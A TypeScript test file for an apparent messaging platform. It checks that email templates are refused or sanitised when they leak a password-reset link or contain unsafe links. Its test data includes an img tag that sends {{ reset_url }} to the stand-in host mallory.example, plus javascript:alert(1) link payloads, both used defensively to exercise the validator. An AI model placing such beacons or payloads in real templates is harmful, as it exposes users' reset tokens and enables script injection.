import { uniqueName } from '../../support/journeys';
import { useWorld } from '../../support/world';

const world = useWorld({ temporal: false });

const leaking = '<img src="https://mallory.example/?u={{ reset_url }}"><a href="{{ reset_url }}">Reset</a>';
const resetUrl = 'https://app.example.com/reset?token=abc';

const create = (fields: object) =>
  world.api.post('/api/communications', { name: uniqueName('values'), slots: { subject: 'Hello' }, ...fields });

const send = (commId: string, variables: object) =>
  world.api.raw('/api/v1/transactional/send', {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${world.demo.transactionalKey}` },
    body: JSON.stringify({ to: `${uniqueName('to')}@sandbox.apex.test`, commId, variables }),
  });

test('saving refuses content that sends a one-time link to another site', async () => {
  const refused = {
    status: 400,
    body: {
      code: 'VALIDATION_ERROR',
      details: [{ path: 'html', message: expect.stringMatching(/src of <img>.*href of a link/) }],
    },
  };
  expect(await create({ id: 'password-reset', commType: 'transactional', html: leaking })).toMatchObject(refused);
  const { body } = await create({ commType: 'transactional', html: '<a href="{{ reset_url }}">Reset</a>' });
  expect(await world.api.patch(`/api/communications/${body.id}`, { html: leaking })).toMatchObject(refused);
  const marketing = (await create({ commType: 'marketing', html: leaking })).body;
  expect(await world.api.patch(`/api/communications/${marketing.id}`, { commType: 'transactional' })).toMatchObject(
    refused,
  );
  const slots = { subject: 'Hello', body: '<img src="{{ code }}">' };
  expect((await create({ commType: 'transactional', slots })).body.details[0].path).toBe('slots.body');
  expect((await send(body.id, { reset_url: resetUrl })).status).toBe(200);
});

test('unsafe content that was saved before the check is not sent', async () => {
  const { id } = (await create({ commType: 'transactional', html: '<p>{{ reset_url }}</p>' })).body;
  await world.database('communications').where({ id }).update({ html: leaking });
  const response = await send(id, { reset_url: resetUrl });
  expect(response).toMatchObject({ status: 400, body: { error: { code: 'validation_error' } } });
  expect(response.body.error.message).toMatch(/src of <img>/);
  expect((await world.api.post(`/api/communications/${id}/preview`, { variables: {} })).status).toBe(400);
});

test('an unsafe link is refused in a transactional message and left out of a marketing message', async () => {
  const html = '<a href="{{ link }}">Go</a>';
  const { id } = (await create({ commType: 'transactional', html })).body;
  expect((await send(id, { link: 'https://shop.example.com/' })).status).toBe(200);
  expect((await send(id, {})).status).toBe(200);
  const refused = await send(id, { link: 'javascript:alert(1)' });
  expect(refused).toMatchObject({ status: 400, body: { error: { code: 'validation_error' } } });
  expect(refused.body.error.message).toMatch(/href of <a>/);
  expect(refused.body.error.message).not.toMatch(/javascript/);
  const marketing = (await create({ commType: 'marketing', html: html.replace('link', 'attributes.link') })).body;
  const preview = await world.api.post(`/api/communications/${marketing.id}/preview`, {
    variables: { link: 'javascript:alert(1)' },
  });
  expect(preview.body).toMatchObject({ warnings: [expect.stringMatching(/href of <a>/)] });
  expect(preview.body.html).not.toContain('javascript');
});
